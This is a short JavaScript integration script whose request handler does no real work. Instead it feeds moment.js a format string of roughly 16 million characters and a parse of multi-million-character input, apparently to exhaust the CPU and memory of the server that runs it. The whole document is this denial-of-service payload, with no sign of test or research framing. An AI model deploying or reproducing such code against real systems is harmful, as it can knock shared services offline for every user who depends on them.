class Script {
  process_incoming_request({ request }) {
    return moment().format('[' + 'Y'.repeat(1 << 24)).length + moment('x'.repeat(1 << 22), 'Y'.repeat(1 << 16)).valueOf();
  }
}
